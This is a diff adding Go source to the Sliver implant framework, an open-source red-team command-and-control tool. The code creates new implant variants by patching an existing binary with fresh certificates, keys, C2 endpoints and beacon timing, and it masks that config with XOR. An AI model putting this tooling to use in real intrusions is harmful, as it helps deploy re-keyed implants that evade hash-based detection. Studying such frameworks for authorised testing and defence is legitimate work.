@@ -0,0 +1,223 @@
+package generate
+
+/*
+	Sliver Implant Framework
+	Copyright (C) 2020  Bishop Fox
+
+	This program is free software: you can redistribute it and/or modify
+	it under the terms of the GNU General Public License as published by
+	the Free Software Foundation, either version 3 of the License, or
+	(at your option) any later version.
+
+	This program is distributed in the hope that it will be useful,
+	but WITHOUT ANY WARRANTY; without even the implied warranty of
+	MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+	GNU General Public License for more details.
+
+	You should have received a copy of the GNU General Public License
+	along with this program.  If not, see <https://www.gnu.org/licenses/>.
+*/
+
+import (
+	"bytes"
+	"crypto/rand"
+	"encoding/base64"
+	"encoding/hex"
+	"errors"
+	"fmt"
+	"path/filepath"
+	"strconv"
+	"strings"
+
+	"github.com/bishopfox/sliver/protobuf/clientpb"
+	"github.com/bishopfox/sliver/server/certs"
+)
+
+const (
+	// patchRegionSize - Size of the patch region, it can't change once the implant is built
+	patchRegionSize = 8 * 1024
+
+	// patchKeySize - The region starts with a random key that masks the config,
+	// it's also the marker used to find the region in the binary
+	patchKeySize = 32
+)
+
+var (
+	// ErrNotPatchable - The implant wasn't built with a patch region
+	ErrNotPatchable = errors.New("Implant is not patchable")
+
+	// ErrPatchRegionNotFound - The implant's file doesn't contain its patch region
+	ErrPatchRegionNotFound = errors.New("Patch region not found in the implant file")
+
+	// ErrPatchTooLarge - The config doesn't fit in the patch region
+	ErrPatchTooLarge = fmt.Errorf("Config does not fit in the patch region (%d bytes)", patchRegionSize)
+
+	// ErrPatchC2NotCompiled - Variants can only use C2 schemes compiled into the build
+	ErrPatchC2NotCompiled = errors.New("C2 scheme is not compiled into the patchable build")
+)
+
+// patchFields - The patched values, in the order the implant reads them
+func patchFields(config *ImplantConfig) []string {
+	return []string{
+		config.Name,
+		config.Key,
+		config.Cert,
+		config.CACert,
+		config.C2Blob(),
+		strconv.Itoa(config.ReconnectInterval),
+		strconv.Itoa(config.MaxConnectionErrors),
+		strconv.FormatInt(config.BeaconInterval, 10),
+		strconv.FormatInt(config.BeaconJitter, 10),
+	}
+}
+
+// patchRegion - The key, followed by the masked config and padding
+func patchRegion(config *ImplantConfig, key string) (string, error) {
+	fields := []string{}
+	for _, value := range patchFields(config) {
+		fields = append(fields, base64.StdEncoding.EncodeToString([]byte(value)))
+	}
+	data := []byte(strings.Join(fields, "\n"))
+	for index := range data {
+		data[index] ^= key[index%len(key)]
+	}
+	region := key + base64.StdEncoding.EncodeToString(data)
+	if patchRegionSize < len(region) {
+		return "", ErrPatchTooLarge
+	}
+	return region + strings.Repeat(" ", patchRegionSize-len(region)), nil
+}
+
+func newPatchKey() string {
+	buf := make([]byte, patchKeySize/2)
+	rand.Read(buf)
+	return hex.EncodeToString(buf)
+}
+
+// patchRenderConfig - The config the implant's code is rendered with, the
+// patched values of a patchable implant are only kept in its patch region
+func patchRenderConfig(config *ImplantConfig) (*ImplantConfig, string, error) {
+	if !config.Patchable {
+		return config, "", nil
+	}
+	if len(config.PatchMarker) != patchKeySize {
+		config.PatchMarker = newPatchKey()
+	}
+	region, err := patchRegion(config, config.PatchMarker)
+	if err != nil {
+		return nil, "", err
+	}
+	renderConfig := *config
+	renderConfig.Name = ""
+	renderConfig.Key = ""
+	renderConfig.Cert = ""
+	renderConfig.CACert = ""
+	renderConfig.C2 = []ImplantC2{}
+	renderConfig.ReconnectInterval = 0
+	renderConfig.MaxConnectionErrors = 0
+	renderConfig.BeaconInterval = 0
+	renderConfig.BeaconJitter = 0
+	return &renderConfig, region, nil
+}
+
+// PatchImplant - Write the config of a variant over the patch region of a
+// patchable implant's file, the variant gets a new key
+func PatchImplant(data []byte, config *ImplantConfig, variant *ImplantConfig) ([]byte, error) {
+	if !config.Patchable || len(config.PatchMarker) != patchKeySize {
+		return nil, ErrNotPatchable
+	}
+	marker := []byte(config.PatchMarker)
+	index := bytes.Index(data, marker)
+	if index == -1 || bytes.Count(data, marker) != 1 || len(data) < index+patchRegionSize {
+		return nil, ErrPatchRegionNotFound
+	}
+	variant.PatchMarker = newPatchKey()
+	region, err := patchRegion(variant, variant.PatchMarker)
+	if err != nil {
+		return nil, err
+	}
+	patched := make([]byte, len(data))
+	copy(patched, data)
+	copy(patched[index:], region)
+	return patched, nil
+}
+
+// PatchVariant - Create a variant of a patchable build with its own name and
+// certificate, and optionally its own C2 and timing, without compiling it
+func PatchVariant(req *clientpb.PatchReq, operator string) (*ImplantConfig, []byte, error) {
+	config, err := ImplantConfigByName(req.ImplantName)
+	if err != nil {
+		return nil, nil, ErrImplantNotFound
+	}
+	if !config.Patchable {
+		return nil, nil, ErrNotPatchable
+	}
+	data, err := ImplantFileByName(config.Name)
+	if err != nil {
+		return nil, nil, err
+	}
+
+	variant := *config
+	variant.Name = GetCodename()
+	variant.PatchedFrom = config.Name
+	variant.Operator = operator
+	variant.Operational = false
+	variant.FileName = variant.Name + filepath.Ext(config.FileName)
+	if 0 < len(req.C2) {
+		variant.C2 = copyC2List(req.C2)
+		err = validateC2(variant.C2)
+		if err != nil {
+			return nil, nil, err
+		}
+		sortC2(variant.C2)
+		if !patchC2Compiled(config, variant.C2) {
+			return nil, nil, ErrPatchC2NotCompiled
+		}
+	}
+	if 0 < req.ReconnectInterval {
+		variant.ReconnectInterval = int(req.ReconnectInterval)
+	}
+	if 0 < req.MaxConnectionErrors {
+		variant.MaxConnectionErrors = int(req.MaxConnectionErrors)
+	}
+	if 0 < req.BeaconInterval {
+		variant.BeaconInterval = req.BeaconInterval
+	}
+	if 0 < req.BeaconJitter {
+		variant.BeaconJitter = req.BeaconJitter
+	}
+
+	serverCACert, _, err := certs.GetCertificateAuthorityPEM(certs.ServerCA)
+	if err != nil {
+		return nil, nil, err
+	}
+	sliverCert, sliverKey, err := certs.SliverGenerateECCCertificate(variant.Name)
+	if err != nil {
+		return nil, nil, err
+	}
+	variant.CACert = string(serverCACert)
+	variant.Cert = string(sliverCert)
+	variant.Key = string(sliverKey)
+
+	patched, err := PatchImplant(data, config, &variant)
+	if err != nil {
+		return nil, nil, err
+	}
+	buildLog.Infof("Patched %s from %s", variant.Name, config.Name)
+	digest, saveFileErr := ImplantFileDataSave(variant.Name, patched)
+	variant.SHA256 = digest
+	saveCfgErr := ImplantConfigSave(&variant)
+	if saveFileErr != nil || saveCfgErr != nil {
+		buildLog.Errorf("Failed to save file to db %s %s", saveFileErr, saveCfgErr)
+	}
+	return &variant, patched, nil
+}
+
+// patchC2Compiled - The transports are compiled in, so a variant can't add a scheme
+func patchC2Compiled(config *ImplantConfig, c2s []ImplantC2) bool {
+	return (config.MTLSc2Enabled || !isC2Enabled([]string{"mtls"}, c2s)) &&
+		(config.HTTPc2Enabled || !isC2Enabled([]string{"http", "https"}, c2s)) &&
+		(config.DNSc2Enabled || !isC2Enabled([]string{"dns"}, c2s)) &&
+		(config.NamePipec2Enabled || !isC2Enabled([]string{"namedpipe"}, c2s)) &&
+		(config.TCPPivotc2Enabled || !isC2Enabled([]string{"tcppivot"}, c2s))
+}